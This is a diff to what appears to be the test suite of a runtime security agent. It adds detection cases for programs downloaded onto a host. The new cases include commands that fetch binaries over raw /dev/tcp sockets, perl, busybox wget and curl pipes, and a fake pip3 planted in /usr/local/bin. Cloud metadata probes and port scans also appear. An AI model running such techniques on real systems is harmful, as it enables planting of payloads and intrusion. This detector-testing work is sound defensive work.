@@ -84,6 +84,9 @@ TUNNEL = "DNS used as a tunnel"
 MINER = "Miner greets its pool"
 METADATA = "Metadata of the cloud asked by hand"
 MEMORY_WRITTEN = "Memory of another process written"
+DOWNLOADED = "Program downloaded"
+SERVER = ("setsid python3 -B -m http.server 8123 --bind 127.0.0.1 --directory /usr/bin >/dev/null 2>&1 </dev/null & "
+          "until (: >/dev/tcp/127.0.0.1/8123) 2>/dev/null; do sleep 0.1; done")
 KEPT = "File made immutable or append-only by hand"
 UNKEPT = "Protection of a file taken away by hand"
 
@@ -194,6 +197,19 @@ CASES = (
     (28, METADATA, "twin: from Python", lambda d: d.py("try_connect('169.254.169.254', 80)"), ()),
     (28, None, "miss: the next address", lambda d: d.sh("curl -s -m 1 http://169.254.169.253/latest"), ()),
     (29, "Download tool", "curl stores a file", lambda d: d.sh("curl -s -m 1 -O http://%s/x" % NOBODY), ()),
+    (30, DOWNLOADED, "Python stores a program", lambda d: d.sh("python3 -B -c \"from urllib.request import *; urlretrieve('http://127.0.0.1:8123/true', '/opt/d1')\""), ()),
+    (30, DOWNLOADED, "twin: perl", lambda d: d.sh("perl -MIO::Socket -e '$s = IO::Socket::INET->new(\"127.0.0.1:8123\"); print $s \"GET /true HTTP/1.0\\r\\n\\r\\n\"; "
+        "while (<$s>) { last if /^\\r/ } open O, \">/opt/d2\"; print O $_ while <$s>'"), ()),
+    (30, DOWNLOADED, "twin: wget of busybox", lambda d: d.sh("busybox wget -q -O /opt/d3 http://127.0.0.1:8123/true"), ()),
+    (30, DOWNLOADED, "twin: a shell hands the connection to cat; a script", lambda d: d.sh(
+        "exec 3<>/dev/tcp/127.0.0.1/8123; printf 'GET /gunzip HTTP/1.0\\r\\n\\r\\n' >&3; sed -u '/^\\r$/q' <&3 >/dev/null; cat <&3 >/opt/d4"), ("Standard stream turned to a connection",)),
+    (30, DOWNLOADED, "twin: through a pipe", lambda d: d.sh("curl -s http://127.0.0.1:8123/true | cat >/opt/d5"), ()),
+    (30, DOWNLOADED, "twin: written elsewhere, then moved", lambda d: d.sh("curl -s -o /opt/d6.part http://127.0.0.1:8123/true; mv /opt/d6.part /usr/local/bin/d6"), ()),
+    (30, "Program installed from the network", "by what installs packages of a language, as far as its name says",
+     lambda d: d.sh("mkdir -p /opt/l; echo 'from urllib.request import *; urlretrieve(\"http://127.0.0.1:8123/true\", \"/opt/l/d9\")' >/opt/l/pip3; cp /opt/l/pip3 /usr/local/bin/pip3; "
+                    "python3 -B /usr/local/bin/pip3 install x"), ("Program of the image changed", "Dropped file run by interpreter")),
+    (30, None, "miss: what is no program", lambda d: d.sh("curl -s -o /opt/d7 http://127.0.0.1:8123/"), ()),
+    (30, None, "miss: a program that was not downloaded", lambda d: d.sh("cp /bin/true /opt/d8"), ()),
     (30, "Download tool", "twin: wget of busybox; openssl", lambda d: d.sh("busybox wget -T 1 http://%s/x; openssl s_client -connect %s:443 </dev/null" % (NOBODY, NOBODY)), ()),
     (32, "Ports scanned", "ports are scanned, by Python", lambda d: d.py("for port in range(1, 40): try_connect('%s', port)" % NOBODY), ()),
     (32, "Ports scanned", "twin: by bash", lambda d: d.sh("for p in $(seq 100 130); do (exec 3<>/dev/tcp/127.0.0.1/$p) 2>/dev/null; done; true"), ()),
@@ -391,6 +407,7 @@ def main():
             tap.skip("attacks in a container", reason)
             return tap.end()
         started = time.monotonic()
+        container.run("/bin/bash", "-c", SERVER)
         options = [o for path in RULES + [os.path.join(work, "end.yaml")] for o in ("-r", path)]
         agent = agentlib.Agent(work, "attacks", "--mode", "full", "--ring", "65536", "--least", "notice", *options)
         tap.ok(agent.is_watching, "the agent starts in full mode with its own rules", agent.log())
